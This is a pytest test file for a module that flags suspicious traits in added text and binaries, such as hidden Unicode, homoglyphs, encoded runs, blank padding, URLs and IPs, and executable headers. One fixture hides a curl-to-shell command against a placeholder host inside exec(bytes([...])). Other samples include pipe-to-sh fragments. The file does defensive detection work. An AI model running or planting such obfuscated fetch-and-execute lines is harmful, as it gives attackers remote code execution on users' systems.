"""What is measured of added text and of binary files."""

import math
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trustdrift.features.mining import phrases as module_of_phrases
from trustdrift.features.mining import text as module
from trustdrift.features.mining.compiled import words
from trustdrift.features.mining.content import FORMS, binary_form
from trustdrift.features.mining.phrases import Phrases
from trustdrift.features.mining.text import measure_text, measure_texts

_TELLING = [
    b"",
    b"\n",
    b"curl(eval(x)) urllib",
    b"fetch(",
    b" | sh",
    b"| sh process.env",
    b"http://10.0.0.1:80/",
    b"10.0.0.1",
    b"0x1f, " * 15,
    b"\\x1f" * 16,
    "naïve \u202e".encode(),
    "p\u0430ssword".encode(),
    b"101, " * 60,
    b"\0\n\0",
    b"VGhpcyBpcyBhIGxvbmcgZW5vdWdoIHRleHQgdGhhdCBpcyBlbmNvZGVkIGFzIGJhc2U2NA==",
    b"f(a,b);" * 200,
]


def test_an_ordinary_line_has_nothing_to_report() -> None:
    found = measure_text(b"int main(void) { return 0; }\n")
    assert found["longest_line"] == 28
    assert found["non_ascii"] == 0
    names = ("hidden", "lookalikes", "base64_runs", "hex_runs", "spelled_runs", "urls",
             "ip_literals", "minified")  # fmt: skip
    assert [found[name] for name in names] == [0] * 8


def test_entropy_is_shannons() -> None:
    assert measure_text(b"aaaa")["entropy"] == 0
    assert measure_text(b"abab")["entropy"] == pytest.approx(1)
    assert measure_text(bytes(range(256)) * 3)["entropy"] == pytest.approx(8)
    assert measure_text(bytes(range(256)) * 400)["entropy"] == pytest.approx(8)


@given(st.binary(min_size=1, max_size=300))
def test_any_bytes_are_measured_within_range(text: bytes) -> None:
    found = measure_text(text)
    assert 0 <= found["entropy"] <= math.log2(min(256, len(text))) + 1e-6
    assert 0 <= found["non_ascii"] <= 1
    assert 0 <= found["longest_line"] <= len(text)
    assert min(found["hidden"], found["base64_runs"], found["hex_runs"]) >= 0


@pytest.mark.parametrize(
    "character", ["\u202e", "\u2066", "\u200b", "\u00ad", "\u3164", "\ufe01", "\U000e0041"]
)
def test_hidden_characters_are_counted(character: str) -> None:
    assert measure_text(f"if (admin{character}) {{".encode())["hidden"] == 1


@pytest.mark.parametrize("text", ["naïve café", "日本語", "👍\ufe0f", "\ufeffusing System;"])
def test_text_in_any_language_hides_nothing(text: str) -> None:
    assert measure_text(text.encode())["hidden"] == 0


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("if p\u0430ssword == s\u0435cret:", 2),
        ("\u0420aypal(\u03bfk)", 2),
        (r'print("\n\u041e \u043f\u0440\u043e\u0433\u0440\u0430\u043c\u043c\u0435")', 0),
        ("SSL-\u0441\u0435\u0440\u0442\u0438\u0444\u0438\u043a\u0430\u0442, PDF\u043e\u043c", 0),
        ("12 \u03bcs, 5 \u00b5s, \u0394t = 2", 0),
        ("\u041c\u043e\u0441\u043a\u0432\u0430 caf\u00e9", 0),
    ],
)
def test_words_of_two_scripts_that_look_like_one_are_counted(text: str, words: int) -> None:
    assert measure_text(text.encode())["lookalikes"] == words


@pytest.mark.parametrize(
    ("numbers", "runs"),
    [
        (list(b"import os; os.system('curl -s http://203.0.113.9/x | sh -s now')"), 1),
        (list(b"short: fifty-nine characters of a text are not yet enough.."), 0),
        (list(range(256)), 1),
        ([i * i for i in range(200)], 0),
        ([100, 200] * 100, 0),
    ],
)
def test_characters_written_as_numbers_are_an_encoded_run(numbers: list[int], runs: int) -> None:
    for comma in (",", ", ", ",\n    "):
        text = f"exec(bytes([{comma.join(map(str, numbers))}, 0]))"
        assert measure_text(text.encode())["spelled_runs"] == runs


BASE64 = b"VGhpcyBpcyBhIGxvbmcgZW5vdWdoIHRleHQgdGhhdCBpcyBlbmNvZGVkIGFzIGJhc2U2NCBub3c="


def test_encoded_runs_are_counted_by_kind() -> None:
    found = measure_text(b'x = "' + BASE64 + b'"\ny = "' + b"deadbeef" * 12 + b'"\n')
    assert (found["base64_runs"], found["hex_runs"]) == (1, 1)
    escaped = measure_text(b'"' + rb"\x1f\x8b" * 12 + b'"')
    array = measure_text(b"{" + b"0x1f, 0x8b, " * 12 + b"}")
    assert (escaped["hex_runs"], array["hex_runs"]) == (1, 1)


@pytest.mark.parametrize("line", [b"=" * 80, b"-" * 80, b"_" * 80, b"src/" * 30, b"A" * 80])
def test_rules_and_long_paths_are_no_encoded_runs(line: bytes) -> None:
    found = measure_text(line)
    assert found["base64_runs"] == 0


@pytest.mark.parametrize(
    ("text", "run"),
    [
        (b"x = 1;" + b" " * 300 + b"run(y)\n", 300),
        (b"\t" * 131 + b"y", 131),
        (b"a" + b" " * 150 + b"b" + b" \t" * 100 + b"c", 200),
        (b"x = 1;" + b" " * 300 + b"\n", 0),
        (b"x" + b" " * 300 + b"\r\ny", 0),
        (b" " * 99 + b"x", 0),
    ],
)
def test_a_run_of_blanks_counts_where_something_stands_behind_it(text: bytes, run: int) -> None:
    assert measure_text(text)["blank_run"] == run


def test_blanks_without_end_are_read_once() -> None:
    assert (
        measure_text(b" " * 3_000_000 + b"\n")["blank_run"] == 0
    )  # quadratic, it would take hours
    assert measure_text((b" " * 200 + b"\n") * 20_000)["blank_run"] == 0


def test_addresses_are_counted() -> None:
    found = measure_text(
        b"get https://x.org and http://y.org from 192.168.1.20, not 1.2.3 or 300.1.1.1"
    )
    assert (found["urls"], found["ip_literals"]) == (2, 1)


def test_minified_text_is_told_from_long_prose() -> None:
    code = b"".join(b"function f%d(a){return a+%d}" % (i, i) for i in range(60))
    prose = b"a long paragraph of ordinary words without a line break " * 40
    assert measure_text(code)["minified"]
    assert not measure_text(prose)["minified"]


@pytest.mark.parametrize(
    ("start", "form"),
    [
        (b"PK\x03\x04\0", "archive"),
        (b"\xfd7zXZ\0\0", "archive"),
        (b"\0" * 257 + b"ustar\0", "archive"),
        (b"\x7fELF\2\1\0", "executable"),
        (b"MZ\x90\0", "executable"),
        (b"\0asm\1\0", "executable"),
        (b"\x89PNG\r\n\0", "image"),
        (b"\0\1\2", "other"),
    ],
)
def test_a_binary_file_is_told_by_its_first_bytes(start: bytes, form: str) -> None:
    assert binary_form(start) == form
    assert form in FORMS


@given(st.lists(st.one_of(st.binary(max_size=200), st.sampled_from(_TELLING)), max_size=12))
def test_texts_measured_together_are_as_measured_alone(texts: list[bytes]) -> None:
    together = measure_texts(texts)
    for text, found in zip(texts, together, strict=True):
        alone = measure_texts([text])[0]
        assert found.tobytes() == alone.tobytes()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(module, "words", None)
        assert measure_texts(texts).tobytes() == together.tobytes()


@given(
    st.lists(st.text("ab-", min_size=3, max_size=5).map(str.encode), min_size=1, unique=True),
    st.text("ab- \n\u00e9", max_size=60).map(str.encode),
)
def test_every_occurrence_of_a_phrase_is_found(phrases: list[bytes], text: bytes) -> None:
    there = [
        (phrase, at) for phrase in phrases for at in range(len(text)) if text.startswith(phrase, at)
    ]
    assert sorted(Phrases(phrases).find(text)) == sorted(there)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(module_of_phrases, "words", None)
        assert sorted(Phrases(phrases).find(text)) == sorted(there)


@given(st.lists(st.sampled_from([b"a", b"b\t", b" ", b"aaaa", b"\n"]), max_size=40).map(b"".join))
def test_runs_are_found_where_they_begin(text: bytes) -> None:
    assert words is not None
    for members, least in ((b"a", 3), (b" \t", 2), (b"ab", 1)):
        pattern = re.compile(rb"[%b]{%d,}" % (members, least))
        expected = [match.start() for match in pattern.finditer(text)]
        assert words.runs(text, members, least) == expected


WORDS = st.lists(
    st.sampled_from([*module._STANDS_FOR, b"x", b"(", b" ", b"\n", b"_", b".", b"1", b"\xc3"]),
    max_size=30,
)


@given(parts=WORDS)
def test_names_stand_where_they_stood_without_what_is_compiled(parts: list[bytes]) -> None:
    joined = b"".join(parts)
    found = sorted(module._words_in(joined))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(module, "_WORDS", None)
        assert sorted(module._words_in(joined)) == found


def test_a_name_that_is_too_long_to_look_for_is_refused() -> None:
    assert words is not None
    with pytest.raises(ValueError, match="too long"):
        words.Words([b"x" * 64])
